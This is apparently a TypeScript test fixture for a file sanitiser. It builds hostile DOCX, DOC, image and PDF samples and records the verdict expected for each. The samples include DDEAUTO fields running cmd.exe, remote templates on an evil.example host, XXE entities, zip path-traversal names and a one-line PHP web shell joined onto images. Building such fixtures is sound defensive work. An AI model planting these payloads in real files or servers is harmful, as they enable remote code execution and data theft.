// For tests only: documents, pictures and joined files that do harm or try to, each made of one that another program made.
import { type CFB$Container, read, utils, write } from 'cfb'
import { unzipSync, type Zippable, zipSync } from 'fflate'
import { TEST_MARK } from '#kernel/test-mark.ts'
import { pdfOf } from './hostile-pdf-for-tests.ts'
import { seed } from './seeds-for-tests.ts'

type Row = readonly [what: string, name: string, make: () => Uint8Array, verdict: string]

const text = (said: string) => Buffer.from(said, 'utf8')
const joined = (...pieces: (Uint8Array | string)[]) =>
  Buffer.concat(pieces.map((piece) => (typeof piece === 'string' ? Buffer.from(piece, 'latin1') : piece)))

const RELATIONS = 'word/_rels/document.xml.rels'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

type Parts = Record<string, Uint8Array | ((before: string) => string | Uint8Array)>

/** The document of LibreOffice, with other parts. */
function docx(changes: Parts): Uint8Array {
  const parts: Zippable = unzipSync(seed('libreoffice.docx'))
  for (const [name, change] of Object.entries(changes)) {
    const before = parts[name]
    const made =
      typeof change === 'function'
        ? change(before instanceof Uint8Array ? Buffer.from(before).toString() : '')
        : change
    parts[name] = typeof made === 'string' ? text(made) : made
  }
  return zipSync(parts, { level: 6 })
}

function withRelation(tag: string): Uint8Array {
  return docx({ [RELATIONS]: (before) => before.replace('</Relationships>', () => `${tag}</Relationships>`) })
}

const relation = (kind: string, target: string, mode = 'External') =>
  withRelation(`<Relationship Id="x9" Type="${OFFICE}/${kind}" Target="${target}" TargetMode="${mode}"/>`)

function withBody(xml: string): Uint8Array {
  return docx({ 'word/document.xml': (before) => before.replace('<w:body>', () => `<w:body>${xml}`) })
}

const field = (...said: string[]) =>
  withBody(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${said.map((each) => `<w:r><w:instrText>${each}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  )

/** One within the code of another one. */
const nested = (before: string, within: string, behind: string) =>
  withBody(
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>${before}</w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>${within}</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>${behind}</w:instrText><w:fldChar w:fldCharType="separate"/><w:t>x</w:t><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
  )

const utf16 = (said: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(said, 'utf16le')])

const DOCX_ROWS: readonly Row[] = [
  ['macros', 'a.docx', () => docx({ 'word/vbaProject.bin': text('macro') }), 'refused: active'],
  [
    'macros under another name',
    'a.docx',
    () => docx({ 'word/VBAPROJECT2.BIN': text('macro') }),
    'refused: active',
  ],
  [
    'a type with macros',
    'a.docm',
    () =>
      docx({
        '[Content_Types].xml': (before) =>
          before.replace('wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'),
      }),
    'refused: active',
  ],
  [
    'an object of another program',
    'a.docx',
    () => docx({ 'word/embeddings/oleObject1.bin': text('x') }),
    'refused: active',
  ],
  ['a control', 'a.docx', () => docx({ 'word/activeX/activeX1.xml': text('<x/>') }), 'refused: active'],
  ['a program as a part', 'a.docx', () => docx({ 'word/media/a.exe': text('MZ') }), 'refused: active'],
  [
    'an object, by its relation',
    'a.docx',
    () => relation('oleObject', 'media/a.png', 'Internal'),
    'refused: active',
  ],
  [
    'another document within',
    'a.docx',
    () => relation('aFChunk', 'media/a.png', 'Internal'),
    'refused: active',
  ],
  [
    'a relation spelled in entities',
    'a.docx',
    () => relation('ole&#79;bj&#x65;ct', 'media/a.png', 'Internal'),
    'refused: active',
  ],
  [
    'a template from elsewhere',
    'a.docx',
    () => relation('attachedTemplate', 'http://evil.example/a.dotm'),
    'cleaned: actions',
  ],
  [
    'a template, its mode in entities',
    'a.docx',
    () => relation('attachedTemplate', 'http://evil.example/a.dotm', 'Ext&#101;rnal'),
    'cleaned: actions',
  ],
  [
    'a template, with a prefix',
    'a.docx',
    () =>
      withRelation(
        `<p:Relationship xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships" Id="x9" Type="${OFFICE}/attachedTemplate" Target="http://evil.example" TargetMode="External"/>`,
      ),
    'cleaned: actions',
  ],
  [
    'a template behind a quoted sign',
    'a.docx',
    () =>
      withRelation(
        `<Relationship Id="x>9" Type="${OFFICE}/attachedTemplate" Target='http://evil.example' TargetMode="External"/>`,
      ),
    'cleaned: actions',
  ],
  [
    'a template from a share',
    'a.docx',
    () => relation('attachedTemplate', '\\\\evil\\share\\a.dotm'),
    'cleaned: actions',
  ],
  [
    'a picture from elsewhere',
    'a.docx',
    () => relation('image', 'http://evil.example/pixel.png'),
    'cleaned: actions',
  ],
  ['a frame from elsewhere', 'a.docx', () => relation('frame', 'http://evil.example'), 'cleaned: actions'],
  ['a link to a site', 'a.docx', () => relation('hyperlink', 'https://uscis.gov'), 'accepted'],
  ['a link to a file', 'a.docx', () => relation('hyperlink', 'file:///c:/windows'), 'cleaned: actions'],
  [
    'a link that is a script',
    'a.docx',
    () => relation('hyperlink', 'javascript:alert(1)'),
    'cleaned: actions',
  ],
  [
    'relations in capitals',
    'a.docx',
    () =>
      docx({
        'word/_rels/settings.xml.RELS': text(
          `<Relationships><Relationship Id="a" Type="${OFFICE}/attachedTemplate" Target="http://evil.example" TargetMode="External"/></Relationships>`,
        ),
      }),
    'cleaned: actions',
  ],
  [
    'relations in UTF-16',
    'a.docx',
    () => docx({ [RELATIONS]: (before) => utf16(before) }),
    'refused: damaged',
  ],
  [
    'a document in UTF-16',
    'a.docx',
    () => docx({ 'word/document.xml': (before) => utf16(before.replace('UTF-8', 'UTF-16')) }),
    'refused: damaged',
  ],
  [
    'a document in UTF-7',
    'a.docx',
    () => docx({ 'word/document.xml': (before) => before.replace('UTF-8', 'UTF-7') }),
    'refused: damaged',
  ],
  [
    'a field that starts a program',
    'a.docx',
    () => field('DDEAUTO c:\\\\windows\\\\cmd.exe'),
    'refused: active',
  ],
  ['a field in pieces', 'a.docx', () => field('DD', 'EAU', 'TO cmd'), 'refused: active'],
  ['a field in CDATA', 'a.docx', () => field('<![CDATA[DDE]]> cmd'), 'refused: active'],
  ['a field in entities', 'a.docx', () => field('&#68;DE cmd'), 'refused: active'],
  ['a field cut by a remark', 'a.docx', () => field('DD<!-- -->E cmd'), 'refused: active'],
  [
    'a simple field',
    'a.docx',
    () => withBody('<w:fldSimple w:dirty="1" w:instr=\' DDE cmd \'/>'),
    'refused: active',
  ],
  ['a text from elsewhere', 'a.docx', () => field('INCLUDETEXT "http://evil.example"'), 'refused: active'],
  ...[
    'INCLUDEPICTURE "\\\\\\\\host\\\\share\\\\x.png" \\\\d',
    'INCLUDE "a.doc"',
    'IMPORT "a.png"',
    'RD "a.doc"',
    'AUTOTEXT a',
    'PRINT "x"',
  ].map((code): Row => [
    `a field that is not known to be harmless: ${code}`,
    'a.docx',
    () => field(code),
    'refused: active',
  ]),
  [
    'the name of a field in another one',
    'a.docx',
    () => nested('INCLUDE', ' QUOTE "x" ', 'PICTURE "x"'),
    'refused: active',
  ],
  [
    'a field that another one hides',
    'a.docx',
    () => nested(' IF 1 = 1 ', 'INCLUDEPICTURE "x"', ' "b" '),
    'refused: active',
  ],
  [
    'a field within another one',
    'a.docx',
    () => nested(' IF ', ' MERGEFIELD name ', ' = "a" "b" "c" '),
    'accepted',
  ],
  [
    'a link to a folder of a network',
    'a.docx',
    () => field('HYPERLINK "\\\\\\\\host\\\\x"'),
    'refused: active',
  ],
  ['a link to a page', 'a.docx', () => field(' HYPERLINK "https://www.uscis.gov" '), 'accepted'],
  ['a link within it', 'a.docx', () => field(' HYPERLINK \\l "_Toc1" '), 'accepted'],
  ['the number of the page', 'a.docx', () => field(' PAGE '), 'accepted'],
  ['a sum', 'a.docx', () => field(' =SUM(ABOVE) '), 'accepted'],
  [
    'an entity that swells',
    'a.docx',
    () => docx({ 'word/document.xml': (before) => before.replace('?>', '?><!DOCTYPE a [<!ENTITY b "c">]>') }),
    'refused: harmful',
  ],
  [
    'an entity that fetches',
    'a.docx',
    () => docx({ 'word/settings.xml': text('<!DOCTYPE a SYSTEM "http://evil.example"><a/>') }),
    'refused: harmful',
  ],
  [
    'the mark of scanners in a part',
    'a.docx',
    () => docx({ 'word/media/a.txt': text(TEST_MARK) }),
    'refused: harmful',
  ],
  ['a name that leads out', 'a.docx', () => docx({ '../../evil.txt': text('x') }), 'refused: harmful'],
  ['a name with a backslash', 'a.docx', () => docx({ '..\\evil.txt': text('x') }), 'refused: harmful'],
  ['a name from the root', 'a.docx', () => docx({ '/etc/cron.d/evil': text('x') }), 'refused: harmful'],
  ['no document within', 'a.docx', () => zipSync({ 'a.txt': text('x') }), 'refused: not-accepted'],
  ['a document of nothing', 'a.docx', () => docx({ 'word/document.xml': text('<a/>') }), 'refused: damaged'],
  ['half of it', 'a.docx', () => seed('libreoffice.docx').subarray(0, 2_000), 'refused: damaged'],
  ['something behind it', 'a.docx', () => joined(seed('libreoffice.docx'), 'more'), 'refused: damaged'],
  ['something before it', 'a.docx', () => joined('PK\x03\x04', seed('libreoffice.docx')), 'refused'],
  [
    'a program before it',
    'a.docx',
    () => joined('MZ'.padEnd(200, '\0'), seed('libreoffice.docx')),
    'refused: harmful',
  ],
  ['two in one', 'a.docx', () => joined(seed('libreoffice.docx'), seed('pandoc.docx')), 'refused'],
]

function doc(change: (container: CFB$Container) => void): Uint8Array {
  const container = read(seed('libreoffice.doc'), { type: 'buffer' })
  change(container)
  return Buffer.from(write(container, { type: 'buffer' }) as Uint8Array)
}
const added = (path: string, bytes = text('x')) =>
  doc((container) => void utils.cfb_add(container, path, bytes))

/** Where the text of that seed begins. */
const TEXT_AT = 0x800
const saying = (code: string) =>
  doc(({ FullPaths, FileIndex }) => {
    const entry = FileIndex[FullPaths.findIndex((path) => path.endsWith('/WordDocument'))]
    const stream = Buffer.from(entry?.content ?? [])
    stream.write(`\u0013 ${code} \u0014x\u0015`, TEXT_AT, 'utf16le')
    if (entry) entry.content = stream
  })

const DOC_ROWS: readonly Row[] = [
  ['a field that starts a program', 'a.doc', () => saying('DDEAUTO c:\\\\cmd "/k calc"'), 'refused: active'],
  [
    'a picture from elsewhere',
    'a.doc',
    () => saying('INCLUDEPICTURE "\\\\\\\\host\\\\x"'),
    'refused: active',
  ],
  ['the number of the page', 'a.doc', () => saying('PAGE'), 'accepted'],
  ['written again', 'a.doc', () => doc(() => undefined), 'accepted'],
  ['macros', 'a.doc', () => added('/Macros/VBA/ThisDocument'), 'refused: active'],
  ['an object of another program', 'a.doc', () => added('/ObjectPool/_1/Ole10Native'), 'refused: active'],
  ['a sealed package', 'a.doc', () => added('/EncryptedPackage'), 'refused: locked'],
  [
    'the mark of scanners',
    'a.doc',
    () => added('/Data2', Buffer.concat([text(TEST_MARK), Buffer.alloc(5_000)])),
    'refused: harmful',
  ],
  [
    'a sheet',
    'a.doc',
    () =>
      doc((container) => {
        utils.cfb_del(container, '/WordDocument')
        utils.cfb_add(container, '/Workbook', text('x'))
      }),
    'refused: not-accepted',
  ],
  [
    'an archive behind it',
    'a.doc',
    () => joined(seed('libreoffice.doc'), seed('infozip.zip')),
    'refused: harmful',
  ],
  ['half of it', 'a.doc', () => seed('libreoffice.doc').subarray(0, 3_000), 'refused: damaged'],
  ['a head alone', 'a.doc', () => seed('libreoffice.doc').subarray(0, 512), 'refused: damaged'],
]

const jpg = () => seed('imagemagick.jpg')
const png = () => seed('palette.png')
const pdf = () => seed('ghostscript.pdf')
const zip = () => seed('infozip.zip')
const PHP = '<?php system($_GET[0]); ?>'
const HTML = '<!doctype html><script>alert(1)</script>'
/** A remark within a JPEG. */
const remark = (said: string) => {
  const head = Buffer.from([0xff, 0xfe, 0, 0])
  head.writeUInt16BE(said.length + 2, 2)
  return joined(jpg().subarray(0, 2), head, said, jpg().subarray(2))
}
const chunk = (name: string, said: string | Buffer) => {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(said.length)
  return joined(length, name, said, Buffer.alloc(4))
}
const withChunk = (name: string, said: string) =>
  joined(png().subarray(0, 33), chunk(name, said), png().subarray(33))

const JOINED_ROWS: readonly Row[] = [
  ['a JPEG, then an archive', 'a.jpg', () => joined(jpg(), zip()), 'refused: harmful'],
  ['a JPEG, then a page', 'a.jpg', () => joined(jpg(), HTML), 'refused: harmful'],
  ['a JPEG, then a program of a server', 'a.jpg', () => joined(jpg(), PHP), 'refused: harmful'],
  ['a JPEG, then a PDF', 'a.jpg', () => joined(jpg(), pdf()), 'refused: harmful'],
  ['a JPEG, then RAR', 'a.jpg', () => joined(jpg(), 'Rar!\x1a\x07\0', Buffer.alloc(50)), 'refused: harmful'],
  [
    'a JPEG, then a program',
    'a.jpg',
    () => joined(jpg(), 'MZ', Buffer.alloc(58), Buffer.alloc(60), 'PE\0\0'),
    'refused: harmful',
  ],
  ['a JPEG, then zeros', 'a.jpg', () => joined(jpg(), Buffer.alloc(900)), 'cleaned: picture-data'],
  [
    'a JPEG, then a film, as phones make',
    'a.jpg',
    () => joined(jpg(), Buffer.alloc(4), 'ftypmp42', Buffer.alloc(900)),
    'cleaned: picture-data',
  ],
  ['a JPEG, then another', 'a.jpg', () => joined(jpg(), seed('grey.jpg')), 'cleaned: picture-data'],
  ['a JPEG with a program in a remark', 'a.jpg', () => remark(PHP), 'cleaned: picture-data'],
  ['a JPEG with a page in a remark', 'a.jpg', () => remark(HTML), 'cleaned: picture-data'],
  ['a JPEG with a PDF in a remark', 'a.jpg', () => remark('%PDF-1.4 1 0 obj'), 'refused: harmful'],
  [
    'a JPEG with an archive in a remark',
    'a.jpg',
    () => joined(remark(zip().toString('latin1'))),
    'cleaned: picture-data',
  ],
  ['the mark of scanners in a remark', 'a.jpg', () => remark(TEST_MARK), 'refused: harmful'],
  ['half a JPEG', 'a.jpg', () => jpg().subarray(0, 1_500), 'refused: damaged'],
  ['a JPEG of nothing', 'a.jpg', () => joined('\xff\xd8\xff\xd9'), 'refused: damaged'],
  ['a PNG, then an archive', 'a.png', () => joined(png(), zip()), 'refused: harmful'],
  ['a PNG, then a page', 'a.png', () => joined(png(), HTML), 'refused: harmful'],
  ['a PNG, then a program of a server', 'a.png', () => joined(png(), PHP), 'refused: harmful'],
  ['a PNG, then a text', 'a.png', () => joined(png(), 'hello'), 'cleaned: picture-data'],
  ['a PNG with a program in a text', 'a.png', () => withChunk('tEXt', `a\0${PHP}`), 'cleaned: picture-data'],
  ['a PNG with a PDF in a text', 'a.png', () => withChunk('tEXt', 'a\0%PDF-1.4'), 'refused: harmful'],
  [
    'a PNG that moves',
    'a.png',
    () => withChunk('acTL', '\0\0\0\x01\0\0\0\0'),
    'cleaned: picture-data, converted',
  ],
  ['half a PNG', 'a.png', () => png().subarray(0, 700), 'refused: damaged'],
  ['a PNG without an end', 'a.png', () => png().subarray(0, -12), 'refused: damaged'],
  ['a PDF, then an archive', 'a.pdf', () => joined(pdf(), zip()), 'refused: harmful'],
  ['a PDF, then a Word document', 'a.pdf', () => joined(pdf(), seed('libreoffice.docx')), 'refused: harmful'],
  ['an archive, then a PDF', 'a.pdf', () => joined(zip(), pdf()), 'refused: harmful'],
  ['a PDF, then a page', 'a.pdf', () => joined(pdf(), HTML), 'refused: harmful'],
  ['a PDF, then a text', 'a.pdf', () => joined(pdf(), 'hello'), 'cleaned: converted'],
  ['a PDF behind a few bytes', 'a.pdf', () => joined('hello\n', pdf()), 'cleaned: converted'],
  ['a PDF behind a page', 'a.pdf', () => joined(HTML, pdf()), 'refused: harmful'],
  ['a PDF behind a PNG', 'a.pdf', () => joined(png().subarray(0, 500), pdf()), 'refused: harmful'],
  ['a PDF behind a GIF', 'a.pdf', () => joined('GIF89a', Buffer.alloc(30), pdf()), 'refused: harmful'],
  ['a PDF behind a program', 'a.pdf', () => joined('MZ'.padEnd(90, '\0'), pdf()), 'refused: harmful'],
  [
    'a PDF with a page in a remark',
    'a.pdf',
    () => joined('%PDF-1.4\n%', HTML, '\n', pdf().subarray(9)),
    'refused: harmful',
  ],
  [
    'a PDF, then a PDF with a script',
    'a.pdf',
    () => joined(pdf(), pdfOf({ catalog: '/OpenAction<</S/JavaScript/JS(x)>>' })),
    'not accepted',
  ],
  ['half a PDF', 'a.pdf', () => pdf().subarray(0, 1_000), 'refused: damaged'],
  ['a PDF of its head alone', 'a.pdf', () => text('%PDF-1.7\n%%EOF'), 'refused: damaged'],
  ['the mark of scanners', 'a.pdf', () => text(TEST_MARK), 'refused: harmful'],
  ['the mark of scanners behind a PDF', 'a.pdf', () => joined(pdf(), TEST_MARK), 'refused: harmful'],
  ['a HEIC, then an archive', 'a.heic', () => joined(seed('libheif.heic'), zip()), 'refused: harmful'],
  ['half a HEIC', 'a.heic', () => seed('libheif.heic').subarray(0, 700), 'refused: damaged'],
]

export const HOSTILE_ROWS: readonly Row[] = [...DOCX_ROWS, ...DOC_ROWS, ...JOINED_ROWS]
